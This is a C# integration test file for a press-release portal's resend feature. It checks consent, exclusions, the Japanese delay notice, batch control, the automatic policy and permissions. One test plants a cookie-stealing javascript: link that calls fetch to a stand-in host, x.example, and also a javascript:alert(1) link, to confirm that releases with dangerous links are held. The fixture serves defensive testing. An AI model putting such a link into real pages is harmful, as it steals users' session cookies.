using Microsoft.EntityFrameworkCore;
using MimeKit;
using PrPortal.Data;
using PrPortal.Data.Entities;
using PrPortal.Features.Account;
using PrPortal.Features.Providers;
using PrPortal.Features.Reports;
using PrPortal.Features.Resend;
using PrPortal.Sandbox;
using PrPortal.Sandbox.Smtp;
using PrPortal.Tests.Support;

namespace PrPortal.Tests.Integration.Resend;

/// <summary>Resends over the sandbox's SMTP simulators: consent, exclusions, the delay notice, one batch per choice.</summary>
[Trait("Category", "Integration")]
public sealed class ResendTests
{
    private static readonly AffectedScope Everything = new() { FromUtc = DateTime.UtcNow.AddDays(-70), UntilUtc = DateTime.UtcNow.AddHours(1) };
    private static readonly string[] Microsoft = [MailboxProviderCatalog.MicrosoftConsumer, MailboxProviderCatalog.Microsoft365];

    /// <summary>The demo's Microsoft blocks are lifted in the simulators, as after a delisting, and every message is kept.</summary>
    private static DemoPortalFactory Start()
    {
        var portal = new DemoPortalFactory();
        _ = portal.Server;
        var world = portal.Service<SandboxWorld>();
        foreach (var provider in Microsoft)
        {
            world.Simulator(provider).Rules.UnblockAll();
            world.Simulator(provider).KeepMessages = true;
        }
        // No throttle to speak of: the tests are about what is sent, not how fast.
        portal.Service<ResendService>().SavePolicyAsync(TestUsers.As(PortalRoles.Admin), new ResendPolicy(true, 24, 60, 60_000), default).GetAwaiter().GetResult();
        return portal;
    }

    private static async Task<int> CompanyWithMostFailuresAsync(DemoPortalFactory portal) =>
        (await portal.Service<AffectedReportService>().BuildAsync(Everything, default)).Companies[0].CompanyId;

    private static List<ReceivedMail> Received(DemoPortalFactory portal, int batchId) => Microsoft
        .SelectMany(p => portal.Service<SandboxWorld>().Simulator(p).Received)
        .Where(m => m.MessageId?.StartsWith($"<resend.b{batchId}.") == true).ToList();

    [Fact]
    public async Task A_company_that_agreed_gets_its_failed_mail_once_with_the_delay_notice_on_top()
    {
        using var portal = Start();
        var support = TestUsers.As(PortalRoles.Support);
        var companyId = await CompanyWithMostFailuresAsync(portal);
        var request = new ResendRequest { Scope = Everything, CompanyId = companyId, Language = "ja", ConsentReference = "電話 11/28 広報部 田中様", ConfirmedDangerousLinks = true };
        var before = await portal.Service<AffectedReportService>().BuildAsync(Everything, default);
        var failedForCompany = before.Companies.Single(c => c.CompanyId == companyId).FailedMails;

        // Failures older than a day need the company's word first.
        var refused = await Assert.ThrowsAsync<ResendRefusedException>(() => portal.Service<ResendService>().StartAsync(support, request, default));
        Assert.Contains("consent", refused.Message);
        await portal.Service<ContactService>().SetAsync(support, companyId, null, ContactStatus.Agreed, "再送に同意", default);
        var plan = await portal.Service<ResendService>().PlanAsync(request, default);
        var batchId = await portal.Service<ResendService>().StartAsync(support, request, default);
        var run = await portal.Service<ResendRunner>().RunAsync(batchId, default);

        var received = Received(portal, batchId);
        var batch = (await portal.Service<ResendService>().BatchesAsync(support, 10, default)).Single(b => b.Id == batchId);
        Assert.Equal(failedForCompany, plan.Total + plan.ExcludedOwnReason + plan.ExcludedUnsubscribed + plan.ExcludedDelivered);
        Assert.Equal((ResendBatchState.Completed, plan.Total, plan.Total), (batch.State, batch.Sent, run.Sent));
        Assert.Equal(plan.Total, received.Select(m => m.MessageId).Distinct().Count());
        Assert.Equal(plan.Total, received.Count);

        // The notice is at the top of both parts, in Japanese, with the release's own values; the release follows.
        await using var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync();
        var sample = MimeMessage.Load(new MemoryStream(System.Text.Encoding.Latin1.GetBytes(received[0].Raw!)));
        var deliveryId = long.Parse(sample.MessageId!.Split(".d")[1].Split('@')[0]);
        var delivery = await db.Deliveries.Include(d => d.Release).ThenInclude(r => r!.Company).SingleAsync(d => d.Id == deliveryId);
        // The plan names the releases it resends: the resend dialog checks their links.
        var itemIds = plan.Items.Select(i => i.DeliveryId).ToList();
        var planReleases = await db.Deliveries.Where(d => itemIds.Contains(d.Id)).Select(d => d.ReleaseId).Distinct().OrderBy(r => r).ToListAsync();
        Assert.Equal(planReleases, plan.ReleaseIds);
        Assert.Equal("【再送】" + delivery.Release!.Title, sample.Subject);
        Assert.StartsWith("このプレスリリースは遅れてお届けしています。", sample.TextBody ?? "");
        Assert.Contains($"{delivery.Release.Company!.Name}の「{delivery.Release.Title}」", sample.TextBody);
        // Below the notice, the release itself: its HTML byte for byte, and its text.
        var original = new PrPortal.Features.Delivery.ReleaseContent(delivery.Release.Html, delivery.Release.Text);
        Assert.NotNull(delivery.Release.Html);
        Assert.EndsWith(original.TextPart, (sample.TextBody ?? "").TrimEnd());
        Assert.StartsWith("<div class=\"prportal-delay-notice\"", sample.HtmlBody ?? "");
        Assert.EndsWith(delivery.Release.Html!, sample.HtmlBody ?? "");
        Assert.True((sample.HtmlBody ?? "").IndexOf("このプレスリリースは遅れて", StringComparison.Ordinal) < (sample.HtmlBody ?? "").IndexOf(delivery.Release.Html!, StringComparison.Ordinal));
        Assert.Contains("bounce+d" + deliveryId, received[0].MailFrom);

        // The report now counts them as resent.
        var after = await portal.Service<AffectedReportService>().BuildAsync(Everything, default);
        Assert.Equal(plan.Total, after.Companies.Single(c => c.CompanyId == companyId).Resent);
        Assert.Equal(before.Totals.FailedMails, after.Totals.FailedMails);
        // Running it again sends nothing more.
        await portal.Service<ResendRunner>().RunAsync(null, default);
        Assert.Equal(plan.Total, Received(portal, batchId).Count);
    }

    [Fact]
    public async Task Own_failures_deliveries_made_meanwhile_and_unsubscribed_recipients_are_left_out_and_counted()
    {
        using var portal = Start();
        var support = TestUsers.As(PortalRoles.Support);
        var companyId = await CompanyWithMostFailuresAsync(portal);
        await portal.Service<ContactService>().SetAsync(support, companyId, null, ContactStatus.Agreed, null, default);
        var request = new ResendRequest { Scope = Everything, CompanyId = companyId, ConfirmedDangerousLinks = true };
        var plan = await portal.Service<ResendService>().PlanAsync(request, default);
        int unsubscribedItems, goneItems;
        await using (var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
        {
            var rows = (await db.FailedDeliveries.Where(f => f.CompanyId == companyId && f.IpBlock && f.DeliveredAtUtc == null).OrderBy(f => f.DeliveryId).ToListAsync())
                .DistinctBy(f => f.RecipientId).Take(3).ToList();
            (unsubscribedItems, goneItems) = (await CountAsync(rows[0].RecipientId), await CountAsync(rows[1].RecipientId));
            Task<int> CountAsync(int recipientId) =>
                db.FailedDeliveries.CountAsync(f => f.CompanyId == companyId && f.IpBlock && f.DeliveredAtUtc == null && f.RecipientId == recipientId);
            // One recipient unsubscribed, one address is gone (a later userunknown), one mail got through on a retry.
            await db.Recipients.Where(r => r.Id == rows[0].RecipientId).ExecuteUpdateAsync(s => s.SetProperty(r => r.UnsubscribedAtUtc, DateTime.UtcNow));
            db.FailedDeliveries.Add(new FailedDelivery
            {
                DeliveryId = 9_000_000, ReleaseId = rows[1].ReleaseId, CompanyId = companyId, RecipientId = rows[1].RecipientId,
                Category = rows[1].Category, ProviderId = rows[1].ProviderId, SendingIpId = rows[1].SendingIpId, Reason = "userunknown", FailedAtUtc = DateTime.UtcNow,
            });
            db.DeliveryAttempts.Add(new DeliveryAttempt
            {
                DeliveryId = rows[2].DeliveryId, AttemptedAtUtc = DateTime.UtcNow, SendingIpId = rows[2].SendingIpId, ProviderId = rows[2].ProviderId,
                ReplyCode = 250, ReplyText = "250 2.0.0 OK", Outcome = AttemptOutcome.Accepted,
            });
            await db.SaveChangesAsync();
        }
        var after = await portal.Service<ResendService>().PlanAsync(request, default);

        Assert.Equal(plan.ExcludedUnsubscribed + unsubscribedItems, after.ExcludedUnsubscribed);
        Assert.Equal(plan.ExcludedOwnReason + goneItems, after.ExcludedOwnReason);
        Assert.Equal(plan.ExcludedDelivered + 1, after.ExcludedDelivered);
        Assert.Equal(plan.Total - unsubscribedItems - goneItems - 1, after.Total);
    }

    [Fact]
    public async Task A_company_that_declined_is_refused_with_the_reason_and_two_starts_at_once_make_one_batch()
    {
        using var portal = Start();
        var support = TestUsers.As(PortalRoles.Support);
        var report = await portal.Service<AffectedReportService>().BuildAsync(Everything, default);
        var (declining, agreeing) = (report.Companies[0].CompanyId, report.Companies[1].CompanyId);
        await portal.Service<ContactService>().SetAsync(support, declining, null, ContactStatus.Declined, "再送不要とのこと", default);
        await portal.Service<ContactService>().SetAsync(support, agreeing, null, ContactStatus.Agreed, null, default);
        var resends = portal.Service<ResendService>();

        var refused = await Assert.ThrowsAsync<ResendRefusedException>(() =>
            resends.StartAsync(support, new ResendRequest { Scope = Everything, CompanyId = declining }, default));
        var request = new ResendRequest { Scope = Everything, CompanyId = agreeing, ConfirmedDangerousLinks = true };
        var ids = await Task.WhenAll(resends.StartAsync(support, request, default), resends.StartAsync(TestUsers.As(PortalRoles.Admin), request, default));

        Assert.Contains("declined", refused.Message);
        Assert.Contains("再送不要とのこと", refused.Message);
        Assert.Equal(ids[0], ids[1]);
        await using var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync();
        Assert.Equal(1, await db.ResendBatches.CountAsync());
        // The declined company's failures show as declined in the report.
        var after = await portal.Service<AffectedReportService>().BuildAsync(Everything, default);
        Assert.Equal(after.Companies.Single(c => c.CompanyId == declining).FailedMails, after.Companies.Single(c => c.CompanyId == declining).Declined);
    }

    [Fact]
    public async Task Pause_holds_a_batch_resume_finishes_it_and_cancel_frees_what_was_not_sent()
    {
        using var portal = Start();
        var support = TestUsers.As(PortalRoles.Support);
        var report = await portal.Service<AffectedReportService>().BuildAsync(Everything, default);
        var resends = portal.Service<ResendService>();
        foreach (var c in report.Companies.Take(2))
        {
            await portal.Service<ContactService>().SetAsync(support, c.CompanyId, null, ContactStatus.Agreed, null, default);
        }
        var first = await resends.StartAsync(support, new ResendRequest { Scope = Everything, CompanyId = report.Companies[0].CompanyId, ConfirmedDangerousLinks = true }, default);
        var second = await resends.StartAsync(support, new ResendRequest { Scope = Everything, CompanyId = report.Companies[1].CompanyId, ConfirmedDangerousLinks = true }, default);

        await resends.PauseAsync(support, first, default);
        await resends.CancelAsync(support, second, default);
        await portal.Service<ResendRunner>().RunAsync(null, default);
        var paused = (await resends.BatchesAsync(support, 10, default)).ToDictionary(b => b.Id);
        await resends.ResumeAsync(support, first, default);
        await portal.Service<ResendRunner>().RunAsync(null, default);
        var done = (await resends.BatchesAsync(support, 10, default)).ToDictionary(b => b.Id);

        Assert.Equal((ResendBatchState.Paused, 0), (paused[first].State, paused[first].Sent));
        Assert.Equal((ResendBatchState.Cancelled, 0, paused[second].Total), (paused[second].State, paused[second].Sent, paused[second].Skipped));
        Assert.Equal((ResendBatchState.Completed, done[first].Total), (done[first].State, done[first].Sent));
        Assert.Empty(Received(portal, second));
        await Assert.ThrowsAsync<ResendRefusedException>(() => resends.ResumeAsync(support, second, default));
        // What the cancelled batch did not send can go in a new one.
        var again = await resends.PlanAsync(new ResendRequest { Scope = Everything, CompanyId = report.Companies[1].CompanyId }, default);
        Assert.Equal(paused[second].Total, again.Total);
    }

    [Fact]
    public async Task The_automatic_policy_resends_recent_ip_block_failures_once_the_provider_has_an_ip_again()
    {
        using var portal = Start();
        var resends = portal.Service<ResendService>();
        // The demo's own recent failures sit on blocks nobody has detected: the policy leaves them alone.
        Assert.Null(await resends.AutoResendAsync(default));
        // A fresh block: three Outlook.com recipients refused from one IP a moment ago, the detector takes
        // the IP out of Outlook.com's pool, then the block is lifted.
        var delivery = portal.Service<PrPortal.Features.Delivery.DeliveryService>();
        var ip = (await delivery.SendingIpsAsync(default)).First(i => i.Role == SendingIpRole.Primary);
        var outlook = portal.Service<SandboxWorld>().Simulator(MailboxProviderCatalog.MicrosoftConsumer);
        outlook.Rules.Block(ip.Address, new SimulatedReply(BlockStage.Rcpt,
            "550 5.7.1 Unfortunately, messages from [{ip}] weren't sent. Please contact your Internet service provider since part of their network is on our block list (S3150)."));
        await CustomerMail.SendAsync(portal.Services, ip.Address, "aya.fresh@outlook.com", "ken.fresh@hotmail.com", "mio.fresh@live.jp");
        outlook.Rules.UnblockAll();

        var batchId = await resends.AutoResendAsync(default);
        Assert.NotNull(batchId);
        await portal.Service<ResendRunner>().RunAsync(batchId, default);
        var batch = (await resends.BatchesAsync(TestUsers.As(PortalRoles.Admin), 10, default)).Single(b => b.Id == batchId);
        await using var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync();
        var items = await db.ResendItems.Where(i => i.BatchId == batchId).Select(i => i.DeliveryId).ToListAsync();
        var failedAt = await db.FailedDeliveries.Where(f => items.Contains(f.DeliveryId)).Select(f => f.FailedAtUtc).ToListAsync();
        var fresh = await db.FailedDeliveries.Where(f => f.IpBlock && f.SendingIpId == ip.Id && f.FailedAtUtc >= DateTime.UtcNow.AddMinutes(-5)).Select(f => f.DeliveryId).ToListAsync();

        Assert.True(batch.Automatic);
        Assert.Equal("auto-resend", batch.StartedBy);
        Assert.Equal(ResendBatchState.Completed, batch.State);
        Assert.All(failedAt, t => Assert.True(t >= DateTime.UtcNow.AddHours(-24.1)));
        Assert.Equal(3, fresh.Count);
        Assert.Equal(fresh.Order(), items.Order());
        // A second run finds nothing new.
        Assert.Null(await resends.AutoResendAsync(default));
        Assert.Equal(items.Count, Received(portal, batchId!.Value).Count);
    }

    [Fact]
    public async Task Settings_are_for_staff_out_of_range_values_are_refused_and_account_managers_resend_only_their_own()
    {
        using var portal = Start();
        var resends = portal.Service<ResendService>();
        await using var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync();
        var manager = await db.Companies.Where(c => c.AccountManagerId != null).Select(c => c.AccountManager!).FirstAsync();
        var user = TestUsers.AccountManager(manager.Id, manager.Email!);
        var other = await db.Companies.FirstAsync(c => c.AccountManagerId != manager.Id);

        var badPolicy = await Assert.ThrowsAsync<ArgumentException>(() =>
            resends.SavePolicyAsync(TestUsers.As(PortalRoles.Admin), new ResendPolicy(true, 0, 60, 600), default));
        await Assert.ThrowsAsync<UnauthorizedAccessException>(() => resends.SavePolicyAsync(user, new ResendPolicy(false, 24, 60, 600), default));
        await Assert.ThrowsAsync<UnauthorizedAccessException>(() => resends.SaveTemplateAsync(user, DelayNotice.Default("ja"), default));
        var badTemplate = await Assert.ThrowsAsync<ArgumentException>(() =>
            resends.SaveTemplateAsync(TestUsers.As(PortalRoles.Support), DelayNotice.Default("ja") with { Html = "<p>{sent_at}</p>" }, default));
        await Assert.ThrowsAsync<UnauthorizedAccessException>(() =>
            resends.StartAsync(user, new ResendRequest { Scope = Everything, CompanyId = other.Id }, default));
        var longNote = await Assert.ThrowsAsync<ArgumentException>(() =>
            portal.Service<ContactService>().SetAsync(TestUsers.As(PortalRoles.Support), other.Id, null, ContactStatus.Contacted, new string('x', ContactService.MaxNote + 1), default));

        Assert.Contains("1–336 hours", badPolicy.Message);
        Assert.Contains("unknown placeholder {sent_at}", badTemplate.Message);
        Assert.Contains("at most 2000", longNote.Message);
        // Nothing was changed by the refused calls.
        Assert.Equal(new ResendPolicy(true, 24, 60, 60_000), await resends.PolicyAsync(default));
        Assert.Equal(DelayNotice.Default("ja"), await resends.TemplateAsync("ja", default));
        Assert.Equal(0, await db.ResendBatches.CountAsync());
        Assert.Equal(0, await db.CompanyContacts.CountAsync());
    }

    [Fact]
    public async Task A_release_with_a_dangerous_link_is_resent_only_after_a_person_confirms_and_the_automatic_policy_holds_it()
    {
        using var portal = Start();
        var support = TestUsers.As(PortalRoles.Support);
        var resends = portal.Service<ResendService>();
        var companyId = await CompanyWithMostFailuresAsync(portal);
        await portal.Service<ContactService>().SetAsync(support, companyId, null, ContactStatus.Agreed, null, default);
        var request = new ResendRequest { Scope = Everything, CompanyId = companyId };
        var plan = await resends.PlanAsync(request, default);
        var risky = plan.ReleaseIds[0];
        await using (var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
        {
            await db.Releases.Where(r => r.Id == risky).ExecuteUpdateAsync(x => x.SetProperty(r => r.Html, "<p>詳細は<a href=\"javascript:fetch('//x.example/'+document.cookie)\">こちら</a></p>"));
        }

        // The service refuses without the person's yes, whoever calls it (not only the dialog).
        var refused = await Assert.ThrowsAsync<ResendRefusedException>(() => resends.StartAsync(support, request, default));
        Assert.Contains($"#{risky}", refused.Message);
        await using (var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
        {
            Assert.Equal(0, await db.ResendBatches.CountAsync());
        }
        var batch = await resends.StartAsync(support, request with { ConfirmedDangerousLinks = true }, default);
        Assert.True(batch > 0);

        // The automatic policy: a fresh IP-block failure of a release that links somewhere dangerous is held, and the resend page says so.
        var ip = (await portal.Service<PrPortal.Features.Delivery.DeliveryService>().SendingIpsAsync(default)).First(i => i.Role == SendingIpRole.Primary);
        var outlook = portal.Service<SandboxWorld>().Simulator(MailboxProviderCatalog.MicrosoftConsumer);
        outlook.Rules.Block(ip.Address, new SimulatedReply(BlockStage.Rcpt,
            "550 5.7.1 Unfortunately, messages from [{ip}] weren't sent. Please contact your Internet service provider since part of their network is on our block list (S3150)."));
        var sent = await CustomerMail.SendAsync(portal.Services, ip.Address, "aya.risky@outlook.com", "ken.risky@hotmail.com", "mio.risky@live.jp");
        outlook.Rules.UnblockAll();
        int release;
        await using (var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
        {
            var deliveryId = sent[0].Recipient.DeliveryId!.Value;
            release = await db.Deliveries.Where(d => d.Id == deliveryId).Select(d => d.ReleaseId).SingleAsync();
            await db.Releases.Where(r => r.Id == release).ExecuteUpdateAsync(x => x.SetProperty(r => r.Html, "<p><a href=\"javascript:alert(1)\">詳細</a></p>"));
        }
        Assert.Null(await resends.AutoResendAsync(default));
        var held = Assert.Single(await resends.HeldAsync(default), h => h.ReleaseId == release);
        Assert.Equal(3, held.Mails);
        Assert.True(held.DangerousLinks > 0);
        // Held once, not again every run.
        Assert.Null(await resends.AutoResendAsync(default));
        await using (var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
        {
            Assert.Equal(1, await db.AuditEntries.CountAsync(a => a.Action == ResendService.HeldAction && a.Subject == $"release {release}"));
        }
    }
}
